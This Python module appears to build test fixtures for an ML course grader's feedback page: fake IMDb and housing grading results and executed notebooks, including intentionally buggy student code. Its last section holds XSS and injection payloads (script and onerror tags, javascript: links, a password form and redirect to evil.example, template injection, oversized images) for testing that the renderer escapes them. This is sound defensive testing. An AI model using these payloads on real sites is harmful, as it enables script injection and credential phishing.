"""Builds realistic results and executed notebooks for the tests of the rendered feedback."""

from __future__ import annotations

import base64
import math
import struct
import zlib
from datetime import UTC, datetime
from typing import Any

from grader.records import (
    CellRun,
    CellState,
    DataSource,
    Diagnosis,
    Evidence,
    Execution,
    Exit,
    Finding,
    GradedModel,
    Result,
    RunMetrics,
    RunSummary,
    ScoreScale,
    SubmissionRef,
    Verdict,
)

Json = dict[str, Any]

IMDB = [
    ("runs", "The notebook runs to the end", 0),
    ("inputs", "Reviews are multi-hot vectors of 10,000 words", 3),
    ("targets", "Labels are float32 zeros and ones", 1),
    ("hidden", "Two hidden layers of 16 relu units", 2),
    ("output", "One sigmoid unit gives the probability", 2),
    ("loss", "The loss is binary crossentropy", 2),
    ("validation", "Held-out rows are used for validation", 2),
    ("retrained", "The final model is trained from scratch", 1),
    ("no-leakage", "The test set is used only at the end", 2),
    ("accuracy", "Test accuracy of a correct solution", 4),
    ("curves", "Learning curves are plotted", 1),
]


def imdb_findings(**changed: Finding) -> tuple[Finding, ...]:
    """Return the eleven IMDb findings, all passed except those given by criterion."""
    return tuple(changed.get(name.replace("-", "_"), finding(name, title, possible)) for name, title, possible in IMDB)


def finding(name: str, title: str, possible: float, **fields: Any) -> Finding:
    """Return a passed finding, or what ``fields`` make of it."""
    values = {
        "verdict": Verdict.PASSED,
        "credit": 1.0,
        "points": possible,
        "evidence": Evidence.VERIFIED if name in {"accuracy", "inputs"} else Evidence.RECORDED,
        "rationale": "Found just what the assignment asks for.",
        "section": "4.1",
        "cell": 5,
    }
    return Finding(criterion=name, check=f"course.{name}", title=title, possible=possible, **(values | fields))


def history(epochs: int, *, best: int, low: float = 0.276) -> dict[str, tuple[float, ...]]:
    """Return a smooth history whose validation loss is least at epoch ``best``."""
    steps = range(1, epochs + 1)
    return {
        "loss": tuple(0.02 + 0.5 * math.exp(-0.33 * (n - 1)) for n in steps),
        "accuracy": tuple(0.999 - 0.2 * math.exp(-0.35 * (n - 1)) for n in steps),
        "val_loss": tuple(low + (0.012 * (n - best) ** 2 if n < best else 0.019 * (n - best)) for n in steps),
        "val_accuracy": tuple(0.889 - 0.002 * abs(n - best) - 0.06 * math.exp(-n) for n in steps),
    }


def run(number: int, **fields: Any) -> RunSummary:
    """Return one training run of the book's IMDb model."""
    values: Json = {
        "cell": 3 + 2 * number,
        "architecture": "Dense 16 relu → Dense 16 relu → Dense 1 sigmoid",
        "parameters": 160_305,
        "optimizer": "adam",
        "loss": "binary_crossentropy",
        "metrics": ("accuracy",),
        "epochs": 20,
        "batch_size": 512,
        "train_rows": 15_000,
        "validation_rows": 10_000,
        "validation": "held_out",
        "best_epoch": 4,
        "history": history(20, best=4),
        "seconds": 11.4,
    }
    return RunSummary(run=number, **(values | fields))


def retrained(number: int = 3, **fields: Any) -> RunSummary:
    """Return the final run: four epochs on all rows, without validation."""
    short = {key: values[:4] for key, values in history(4, best=4).items() if "val" not in key}
    values: Json = {
        "epochs": 4,
        "train_rows": 25_000,
        "validation_rows": 0,
        "validation": "none",
        "best_epoch": None,
        "history": short,
        "seconds": 3.2,
        "role": "graded",
        "test": (RunMetrics(name="accuracy", value=0.8831, evidence=Evidence.VERIFIED),),
    }
    return run(number, **(values | fields))


def scale(value: float = 0.8831) -> ScoreScale:
    """Return the reference distribution of the IMDb accuracy around a value."""
    landed = [0.876 + 0.011 * ((7 * n) % 41) / 40 for n in range(41)]
    reference = {"edition 3": tuple(landed[:20]), "edition 3, one-layer": tuple(landed[20:])}
    return ScoreScale(metric="accuracy", value=value, full=0.8687, baseline=0.5, reference=reference)


def execution(**fields: Any) -> Execution:
    """Return a confined execution that ran to the end."""
    values: Json = {
        "exit": Exit.OK,
        "seconds": 41.3,
        "peak_mib": 2310.4,
        "isolation": "namespaces",
        "cells": tuple(CellRun(cell=cell, state=CellState.OK, seconds=cell * 0.9) for cell in (1, 3, 5, 7, 9)),
    }
    return Execution(**(values | fields))


def result(**fields: Any) -> Result:
    """Return a full-mark IMDb result with three runs, or what ``fields`` make of it."""
    values: Json = {
        "assignment": "imdb",
        "title": "IMDb reviews: binary classification",
        "student": "Ada Lovelace",
        "submission": SubmissionRef(file="imdb_lovelace.ipynb", sha256="9f2c" * 16),
        "submitted_at": datetime(2025, 11, 20, 9, 24, tzinfo=UTC),
        "graded_at": datetime(2025, 11, 20, 9, 26, tzinfo=UTC),
        "points": 20.0,
        "most_possible": 20.0,
        "possible": 20.0,
        "passed": True,
        "withheld": False,
        "findings": imdb_findings(),
        "graded_model": GradedModel(run=3, why="It was evaluated on the test set in cell 9 and earns the most points."),
        "runs": (run(1), run(2, **_wide()), retrained()),
        "score": scale(),
        "execution": execution(),
        "data": DataSource(
            source="keras",
            description="The data sets of keras.datasets, as published",
            digests={"imdb.npz": "69664113be75683a8fe16e3ed0ab59fda8886cb3cd7ada244f7d9544e4676b9f"},
        ),
        "environment": {"python": "3.11.9", "keras": "3.15.0", "tensorflow": "2.21.0"},
    }
    return Result(**(values | fields))


def _wide() -> Json:
    return {
        "architecture": "Dense 64 relu → Dense 64 relu → Dense 1 sigmoid",
        "parameters": 644_289,
        "best_epoch": 3,
        "history": history(20, best=3, low=0.281),
        "seconds": 16.9,
    }


def full_marks() -> Result:
    """Return a submission with every criterion passed."""
    return result()


def failing() -> Result:
    """Return a submission with failures, a partial, a skip, two diagnoses and hidden findings."""
    findings = imdb_findings(
        inputs=_inputs_failed(), output=_output_failed(), validation=_validation_failed(),
        no_leakage=_leakage_failed(), accuracy=_accuracy_partial(), retrained=_retrained_skipped(),
    )  # fmt: skip
    return result(
        findings=findings,
        points=9.75,
        passed=False,
        diagnoses=_diagnoses(),
        runs=(
            run(1, validation="test_rows", validation_rows=25_000, train_rows=25_000),
            run(2, fresh=False, validation="test_rows", validation_rows=25_000),
        ),
        graded_model=GradedModel(run=2, why="It is the only model evaluated on the test set."),
        score=scale(0.8423),
        execution=execution(isolation="none", notes=("Cell 7: the line `!pip install` was skipped.",)),
        hidden=2,
    )


def _inputs_failed() -> Finding:
    return finding(
        "inputs", "Reviews are multi-hot vectors of 10,000 words", 3, verdict=Verdict.FAILED,
        credit=0.0, points=0.0, cell=3, line=4, section="4.1.2", evidence=Evidence.VERIFIED,
        rationale="Your inputs hold word counts (0 to 214). Expected are zeros and ones in a matrix "
        "of shape (25000, 10000): 1 where a word occurs, however often.",
        help="Write results[i, j] = 1.0 instead of adding 1.0.",
    )  # fmt: skip


def _output_failed() -> Finding:
    return finding(
        "output", "One sigmoid unit gives the probability", 2, verdict=Verdict.FAILED, credit=0.0,
        points=0.0, cell=5, line=4, section="4.1.3",
        rationale="Your last layer is Dense 1 with softmax. Softmax over a single unit is always 1, "
        "so the model can't say no. Expected is Dense 1 with sigmoid.",
        help="Change the activation of the last layer to sigmoid.",
    )  # fmt: skip


def _validation_failed() -> Finding:
    return finding(
        "validation", "Held-out rows are used for validation", 2, verdict=Verdict.FAILED, credit=0.0,
        points=0.0, cell=5, line=9, section="4.1.4",
        rationale="validation_data was the test set (25,000 rows). Expected are rows held out of the "
        "training set, such as its first 10,000.",
        help="Cut the first 10,000 training rows off and give them as validation_data.",
    )  # fmt: skip


def _leakage_failed() -> Finding:
    return finding(
        "no-leakage", "The test set is used only at the end", 2, verdict=Verdict.FAILED, credit=0.0,
        points=0.0, cell=5, line=9, section="4.1.4",
        rationale="25,000 test rows were used while the number of epochs was chosen. Expected is none.",
        help="Keep x_test for the one evaluate call at the end.",
    )  # fmt: skip


def _accuracy_partial() -> Finding:
    return finding(
        "accuracy", "Test accuracy of a correct solution", 4, verdict=Verdict.PARTIAL, credit=0.9375,
        points=3.75, cell=9, section="4.1.5",
        rationale="Your model reaches 0.842 on the test set. Full points begin at 0.869; half of all "
        "answers are right by guessing (0.5).",
        help="Mend the inputs first, then look at the accuracy again.",
    )  # fmt: skip


def _retrained_skipped() -> Finding:
    return finding(
        "retrained", "The final model is trained from scratch", 1, verdict=Verdict.SKIPPED,
        credit=0.0, points=0.0, cell=None, evidence=Evidence.NONE, section="4.1.4",
        rationale="Not looked at: there was no validation to choose the number of epochs from.",
        help="Mend the validation first.",
    )  # fmt: skip


def _diagnoses() -> tuple[Diagnosis, ...]:
    return (
        Diagnosis(
            name="softmax-on-one-unit", title="Softmax over a single unit", cell=5,
            line='layers.Dense(1, activation="softmax"),', section="4.1.3",
            explanation="Softmax makes all outputs of a layer add up to 1. With one unit that one "
            "output is 1 for every review, and nothing can be learned.",
            fix='Use layers.Dense(1, activation="sigmoid").',
        ),
        Diagnosis(
            name="test-set-as-validation", title="The test set was used for validation", cell=5,
            line="history = model.fit(x_train, y_train, epochs=20, validation_data=(x_test, y_test))",
            explanation="Each choice you make by looking at test results makes the test result "
            "itself too good to be true.",
            fix="Hold rows of the training set out, and validate on those.",
        ),
    )  # fmt: skip


def withheld() -> Result:
    """Return a submission that the grader itself could not finish judging."""
    broken = finding(
        "accuracy", "Test accuracy of a correct solution", 4, verdict=Verdict.ERRORED, credit=None,
        points=None, evidence=Evidence.NONE, cell=None,
        rationale="The grader's own predictor process could not be started.",
    )  # fmt: skip
    return result(
        findings=imdb_findings(accuracy=broken),
        points=16.0, most_possible=20.0, passed=False, withheld=True, score=None,
    )  # fmt: skip


def crashed() -> Result:
    """Return a submission whose notebook raised in its third code cell."""
    skipped: dict[str, Finding] = {
        name.replace("-", "_"): finding(
            name, title, possible, verdict=Verdict.SKIPPED, credit=0.0, points=0.0, cell=None,
            evidence=Evidence.NONE, rationale="Not looked at: no model was trained.",
        )
        for name, title, possible in IMDB
        if name not in {"runs", "inputs", "targets"}
    }  # fmt: skip
    stopped = finding(
        "runs", "The notebook runs to the end", 0, verdict=Verdict.FAILED, credit=0.0, points=0.0,
        cell=5, line=2, section="", rationale="Cell 5 raised NameError: name 'layer' is not defined.",
        help="Run all cells from the top in a fresh kernel before you hand in.",
    )  # fmt: skip
    fates = (
        CellRun(cell=1, state=CellState.OK, seconds=2.1),
        CellRun(cell=3, state=CellState.OK, seconds=1.2),
        CellRun(cell=5, state=CellState.RAISED, line=2, error="NameError: name 'layer' is not defined"),
        CellRun(cell=7, state=CellState.NOT_REACHED),
        CellRun(cell=9, state=CellState.NOT_REACHED),
    )
    return result(
        findings=imdb_findings(runs=stopped, **skipped), points=4.0, passed=False, runs=(),
        graded_model=None, score=None,
        execution=execution(exit=Exit.RAISED, seconds=5.2, cells=fates),
    )  # fmt: skip


HOUSING = [
    ("runs", "The notebook runs to the end", 0),
    ("inputs", "Features are standardised with training statistics", 3),
    ("targets", "Prices are scaled to units of $100,000", 1),
    ("hidden", "Two hidden layers of 64 relu units", 1),
    ("output", "One linear unit gives the price", 2),
    ("loss", "The loss is mean squared error", 2),
    ("k-fold", "Models are compared by K-fold validation", 4),
    ("retrained", "The final model is trained on all rows", 1),
    ("no-leakage", "The test set is used only at the end", 2),
    ("mae", "Test error of a correct solution", 3),
    ("curves", "The averaged validation error is plotted", 1),
]


def k_fold(folds: int = 10, epochs: int = 200) -> Result:
    """Return a full-mark housing result: one run per fold and the final one."""
    last = folds + 1
    return result(
        assignment="california-housing",
        title="California housing: scalar regression with K-fold validation",
        findings=tuple(finding(name, title, points) for name, title, points in HOUSING),
        runs=(
            *(_fold(n, folds=folds, epochs=epochs) for n in range(1, last)),
            _fold(last, folds=0, epochs=130),
        ),
        graded_model=GradedModel(run=last, why="It is the only one trained on all 480 rows."),
        score=ScoreScale(
            metric="mae", value=0.312, full=0.352, baseline=0.95, higher_is_better=False,
            reference={"edition 3": tuple(0.297 + 0.04 * ((11 * n) % 60) / 60 for n in range(60))},
        ),
    )  # fmt: skip


def _fold(number: int, *, folds: int, epochs: int) -> RunSummary:
    wave = [0.012 * math.sin(n * 1.7 + number) for n in range(1, epochs + 1)]
    error = tuple(0.27 + 1.6 * math.exp(-n / 6) + wave[n - 1] for n in range(1, epochs + 1))
    loss = tuple(1.1 * value**2 for value in error)
    seen = {"loss": tuple(0.8 * v for v in loss), "mae": tuple(0.85 * v for v in error)}
    held = {"val_loss": loss, "val_mae": error} if folds else {}
    rows = 480 // folds if folds else 0
    return run(
        number, cell=7 if folds else 9, epochs=epochs, batch_size=16, train_rows=480 - rows,
        architecture="Dense 64 relu → Dense 64 relu → Dense 1", parameters=4_801,
        loss="mean_squared_error", metrics=("mae",), history=seen | held, validation_rows=rows,
        validation="held_out" if folds else "none", seconds=14.2,
        best_epoch=loss.index(min(loss)) + 1 if folds else None,
        role=f"fold {number} of {folds}" if folds else "graded",
        test=() if folds else (RunMetrics(name="mae", value=0.312, evidence=Evidence.VERIFIED),),
    )  # fmt: skip


# --- executed notebooks --------------------------------------------------------------------------


def notebook(*cells: Json) -> Json:
    """Return an nbformat-4 notebook of these cells."""
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}


def code(source: str, *outputs: Json, count: int = 1) -> Json:
    """Return an executed code cell."""
    return {
        "cell_type": "code", "source": source, "outputs": list(outputs), "execution_count": count,
        "metadata": {},
    }  # fmt: skip


def text(source: str) -> Json:
    """Return a markdown cell."""
    return {"cell_type": "markdown", "source": source, "metadata": {}}


def stream(words: str, name: str = "stdout") -> Json:
    """Return a stream output."""
    return {"output_type": "stream", "name": name, "text": words}


def display(**data: Any) -> Json:
    """Return a display output; ``text_html`` stands for ``text/html``."""
    bundle = {key.replace("_", "/", 1): value for key, value in data.items()}
    return {"output_type": "display_data", "data": bundle, "metadata": {}}


def png(width: int = 64, height: int = 40) -> str:
    """Return a real, one-coloured PNG of this size in base64."""
    rows = b"".join(b"\x00" + b"\x6c\x8c\xd8" * width for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + body).decode()


MODEL = """model = keras.Sequential([
    layers.Dense(16, activation="relu"),
    layers.Dense(16, activation="relu"),
    layers.Dense(1, activation="softmax"),
])
model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])

# Train for twenty epochs, then look at the curves.
history = model.fit(x_train, y_train, epochs=20, batch_size=512, validation_data=(x_test, y_test))"""

VECTORIZE = """def vectorize_sequences(sequences, dimension=10000):
    results = np.zeros((len(sequences), dimension))
    for i, sequence in enumerate(sequences):
        for j in sequence: results[i, j] += 1.0
    return results

x_train = vectorize_sequences(train_data)
x_test = vectorize_sequences(test_data)"""

TABLE = """<div><style scoped>.dataframe td { color: red }</style><table border="1" class="dataframe">
<thead><tr style="text-align: right;"><th></th><th>loss</th><th>accuracy</th></tr></thead>
<tbody><tr><th>0</th><td>0.512</td><td>0.794</td></tr><tr><th>1</th><td>0.301</td><td>0.902</td></tr>
</tbody></table></div>"""


def progress(epochs: int = 20) -> str:
    """Return what Keras prints while training: colours, and bars drawn over themselves."""
    bar = "\x1b[1m{n}/49\x1b[0m \x1b[32m━━━━\x1b[0m\x1b[37m━━━━━━\x1b[0m {n}s loss: 0.{n:02d}"
    return "".join(
        f"Epoch {epoch}/{epochs}\n" + "".join("\r" + bar.format(n=step) for step in (1, 20, 49)) + "\n"
        for epoch in range(1, epochs + 1)
    )


def executed_notebook() -> Json:
    """Return a notebook of the official length: ten cells with usual outputs."""
    figure = display(text_plain="<Figure size 640x480 with 1 Axes>", image_png=png(640, 400))
    return notebook(
        text("# IMDb reviews\n\nA **two-class** problem: is a review *positive* or not?\n\n"
             "- 25,000 reviews to train on\n- 25,000 to test on\n\nWe use `multi-hot` vectors."),
        code("import numpy as np\nimport keras\nfrom keras import layers\n"
             "from keras.datasets import imdb"),
        text("## Preparing the data\n\n1. Load it\n2. Encode it"),
        code(VECTORIZE, count=2),
        text("## The model"),
        code(MODEL, stream(progress()), count=3),
        text("## Curves"),
        code("plt.plot(history.history['val_loss'])\nplt.show()", figure, count=4),
        text("## Evaluation"),
        code("pd.DataFrame(history.history).head(2)",
             display(text_plain="   loss  accuracy\n0  0.512", text_html=TABLE), count=5),
    )  # fmt: skip


ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "</style><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "<table onclick=alert(1) style='position:fixed;inset:0'><tr><td id=main class=score>x</td></tr>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\x00\x1b[31mred\x1b[0m\u202egnp.exe\ud800",
)


def hostile() -> Result:
    """Return a result in which every text that a student can influence attacks the page."""
    attack = " ".join(ATTACKS)
    wild = finding(
        "inputs", attack, 3, verdict=Verdict.FAILED, credit=0.0, points=0.0, rationale=attack,
        help=attack, section=attack, cell=1, line=1,
    )  # fmt: skip
    broken = {"loss": (math.nan, math.inf, -math.inf), "val_loss": (1e308, -1e308, math.nan),
              attack: (1.0,)}  # fmt: skip
    return result(
        student="<script>alert('student')</script>", members=(attack,), title=attack,
        submission=SubmissionRef(file="\"><script>alert('file')</script>.ipynb", sha256="0" * 64),
        findings=imdb_findings(inputs=wild), points=17.0, passed=False,
        diagnoses=(Diagnosis(name="x", title=attack, line=attack, explanation=attack, fix=attack),),
        runs=(
            run(1, architecture=attack, optimizer=attack, loss=attack, role=attack, history=broken,
                best_epoch=99, validation=attack,
                test=(RunMetrics(name=attack, value=math.nan, evidence=Evidence.REPORTED),)),
        ),
        graded_model=GradedModel(run=1, why=attack),
        score=ScoreScale(metric=attack, value=math.nan, full=0.8, baseline=0.5),
        execution=execution(
            exit=Exit.RAISED, stopped=attack, notes=(attack,), isolation="none",
            cells=(CellRun(cell=1, state=CellState.RAISED, error=attack, line=1),),
        ),
        data=DataSource(source=attack, description=attack, digests={attack: attack}),
        environment={attack: attack},
    )  # fmt: skip


def hostile_notebook() -> Json:
    """Return a notebook whose outputs attack, in every form an output can have."""
    attack = "".join(ATTACKS)
    huge = base64.b64encode(base64.b64decode(png()) + b"\x00" * 10_000_000).decode()
    bomb = base64.b64decode(png())
    wide = base64.b64encode(bomb[:16] + struct.pack(">II", 60_000, 60_000) + bomb[24:]).decode()
    fake = base64.b64encode(b"GIF89a" + b"\x00" * 40).decode()
    linked = f"<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='{attack}'>"
    return notebook(
        text(attack + "\n# " + attack + "\n[x](javascript:alert(1)) ![y](https://evil.example/i.png)"),
        code(
            attack,
            stream(attack), stream("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "stderr"),
            display(text_html=attack), display(text_html=linked), display(text_html="<b>" * 30_000),
            display(image_png=huge), display(image_png=wide), display(image_png=fake),
            display(image_png="!!!"), display(text_html="x" * 5_000_000, text_plain="short"),
            {"output_type": "display_data", "data": {"image/svg+xml": attack, attack: attack}},
            {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}},
            {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
            {"output_type": attack}, {"output_type": "stream", "text": {"no": "text"}},
        ),
        {"cell_type": "code", "source": 7, "outputs": "none"},
        {"cell_type": attack, "source": [attack, 3]},
        {},
    )  # fmt: skip
